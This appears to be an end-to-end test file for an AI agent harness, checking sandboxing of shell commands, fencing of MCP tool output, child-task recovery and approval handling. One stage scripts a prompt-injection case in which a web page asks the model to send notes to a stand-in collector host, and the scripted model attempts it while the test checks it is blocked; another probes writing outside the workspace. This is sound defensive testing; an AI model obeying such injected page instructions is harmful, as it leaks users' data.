import assert from "node:assert/strict";
import { existsSync, readFileSync } from "node:fs";
import { join } from "node:path";
import type { ReceivedRequest } from "../../support/fake-provider.ts";
import { say } from "../../support/wire-script.ts";
import { calling, FILES_SERVER, isChild, isFirst, type Outpost, type Rule } from "./outpost.ts";

export interface FarStage {
  readonly name: string;
  readonly rows: string;
  /** What is to be seen of it, word for word. */
  readonly goal: string;
  /** Returns what was seen; throws where something else was wrong. */
  readonly play: (outpost: Outpost) => Promise<string>;
}

/** The project's tests run in the box, and what must not leave it does not. Needs bubblewrap. */
const sandbox = async (outpost: Outpost): Promise<string> => {
  const inBox = { env: { EVANDER_SANDBOX_MODE: "workspace" } };
  const { port } = new URL(outpost.web.url);
  const reach = `node -e 'fetch("http://127.0.0.1:${port}/kettles").then(() => console.log("REACHED"), () => console.log("CUT OFF"))'`;
  const commands = ["node --test", "echo stray > ../stray.txt", reach];
  const heard: string[] = [];
  const rule: Rule = (told) => {
    heard.push(told);
    const next = commands.shift();
    return next === undefined ? say(["Tested."]) : calling("terminal", { command: next });
  };
  await outpost.answer("Test it.", rule, inBox);
  const { work, folder } = outpost.place;
  assert.match(heard[1] ?? "", /Exit code 0/u);
  assert.match(heard.at(-1) ?? "", /CUT OFF/u);
  const report = readFileSync(join(work, "report.txt"), "utf8");
  const { stdout } = await outpost.place.run(undefined, ["doctor"], inBox);
  const by = /Commands run in a sandbox \((\w+)\)/u.exec(stdout)?.[1] ?? "none";
  const strays = existsSync(join(folder, "stray.txt")) ? 1 : 0;
  return `tests pass and leave "${report}"; ${strays} files outside, ${outpost.web.asked.length} requests that left; ${by}`;
};

const LIST = "mcp__files__list_directory";
const offers = ({ body }: ReceivedRequest, name: string): boolean => JSON.stringify(body).includes(`"name":"${name}"`);

/** A published server: agreed to, joined, used and let go. */
const server = async (outpost: Outpost): Promise<string> => {
  const { work } = outpost.place;
  await outpost.print("mcp", "add", "files", "--yes", "--", process.execPath, FILES_SERVER, work);
  let result = "";
  const rule: Rule = (told, request) => {
    if (!isFirst(request)) {
      result = told;
      return say(["Listed."]);
    }
    // A server that is slow to come joins a later turn.
    return offers(request, LIST) ? calling(LIST, { path: work }) : say(["Not yet."]);
  };
  for (let tries = 0; tries < 20; tries++)
    if ((await outpost.answer("What is here?", rule)).answer === "Listed.") break;
  assert.match(result, /\[FILE\] README\.md/u);
  assert.match(result, new RegExp(`<untrusted_tool_result source=.{0,3}${LIST}`, "u"));
  await outpost.print("mcp", "rm", "files", "--yes");
  const offered = (await outpost.print("tool", "list")).includes("mcp__");
  return `its list is fenced; removed: ${offered ? "still offered" : "not offered"}`;
};

const GOALS = ["src", "docs"] as const;

/** Each looks for the same word in a folder of its own. */
const searching: Rule = (told, request) => {
  if (isChild(request)) {
    if (!isFirst(request)) return say([`found ${told.includes("boils") ? "it" : "nothing"}`]);
    return calling("search_files", { pattern: "boils", path: GOALS.find((goal) => told.includes(goal)) ?? "." });
  }
  if (isFirst(request)) return calling("delegate_task", { tasks: GOALS.map((goal) => ({ goal: `look in ${goal}` })) });
  return say([`${told.split("found it").length - 1} of them found it`]);
};

const children = async (outpost: Outpost): Promise<string> => {
  const { answer } = await outpost.answer("Search.", searching);
  return String(answer);
};

/** The program dies when the first child has ended, and the turn is taken up again. */
const death = async (outpost: Outpost): Promise<string> => {
  const died = await outpost.turn("Search again.", searching, { killAt: "after-commit:auxiliary-run" });
  assert.equal(died.signal, "SIGKILL", died.stderr);
  const { answer } = await outpost.resume();
  const [session] = await listed(outpost);
  const all = await listed(outpost, "--children", session?.sessionId ?? "");
  return `${answer}; ${all.length} children in two searches, ${all.filter(({ turns }) => turns !== 1).length} ran twice`;
};

interface Listed {
  readonly sessionId: string;
  readonly turns: number;
}

const listed = async (outpost: Outpost, ...flags: readonly string[]): Promise<readonly Listed[]> =>
  JSON.parse(await outpost.print("session", "list", ...flags, "--json")) as Listed[];

const CODE = `const text = await read_file("README.md");
const hits = await search_files("boils", { mode: "content" });
console.log("lines with it:", hits.split("\\n").filter((line) => line.includes("boils")).length > 1, text.includes("Kettle"));`;

const script = async (outpost: Outpost): Promise<string> => {
  let result = "";
  const rule: Rule = (told, request) => {
    if (isFirst(request)) return calling("execute_code", { language: "javascript", code: CODE });
    result = told;
    return say(["Counted."]);
  };
  const { iterations } = await outpost.answer("Count.", rule);
  return `${/lines with it: .*/u.exec(result)?.[0] ?? result}; ${iterations.refunded} iteration given back`;
};

/** The page tells the model to send something away; it obeys, and nobody is there to agree. */
const page = async (outpost: Outpost): Promise<string> => {
  const urls = [`${outpost.web.url}/kettles`, `${outpost.web.url}/keys`];
  let first = "";
  let second = "";
  const rule: Rule = (told, request) => {
    if (isFirst(request)) return calling("web_extract", { urls });
    if (first === "") {
      first = told;
      const [wanted = ""] = /http:\/\/collector\.test\/\?notes=/u.exec(told) ?? [];
      return calling("web_extract", { url: `${wanted}boils+at+100` });
    }
    second = told;
    return say(["Read."]);
  };
  await outpost.answer(`Read ${urls.join(" and ")}.`, rule, { approve: "never" });
  assert.match(first, /A kettle boils water/u);
  const keys = first.includes("is never reached");
  return `page read, keys of the machine ${keys ? "never reached" : "asked for"}; what the page wished: ${second.includes("Not run") || second.includes("not run") ? "not run" : second}`;
};

const question = async (outpost: Outpost): Promise<string> => {
  const asked = { question: "Which colour?", choices: ["red", "blue"] };
  const rule: Rule = (told, request) =>
    isFirst(request) ? calling("clarify", asked) : say([`chosen: ${/blue/u.exec(told)?.[0] ?? told}`]);
  const { code } = await outpost.turn("Paint it.", rule, { approve: "park" });
  const [id = ""] = (await outpost.print("approve", "list")).split(" ");
  await outpost.print("answer", id, "blue");
  const { answer } = await outpost.resume();
  return `stood still (${code}), answered from elsewhere, ${answer}`;
};

export const IN_A_SANDBOX: FarStage = {
  name: "its tests in the sandbox",
  rows: "[X6] [E9]",
  goal: 'tests pass and leave "boiled"; 0 files outside, 0 requests that left; bubblewrap',
  play: sandbox,
};

/** In this order: they are one conversation. */
export const STAGES: readonly FarStage[] = [
  {
    name: "a published server of tools",
    rows: "[I5] [A3] [A17]",
    goal: "its list is fenced; removed: not offered",
    play: server,
  },
  { name: "a search by two children", rows: "[I4]", goal: "2 of them found it", play: children },
  {
    name: "the same, killed in the middle",
    rows: "[I4]",
    goal: "2 of them found it; 4 children in two searches, 0 ran twice",
    play: death,
  },
  {
    name: "a script that calls tools",
    rows: "[E9] [B3]",
    goal: "lines with it: true true; 1 iteration given back",
    play: script,
  },
  {
    name: "a page that wants more than to be read",
    rows: "[E9] [F5]",
    goal: "page read, keys of the machine never reached; what the page wished: not run",
    play: page,
  },
  {
    name: "a question to its user",
    rows: "[E9] [B17]",
    goal: "stood still (30), answered from elsewhere, chosen: blue",
    play: question,
  },
];
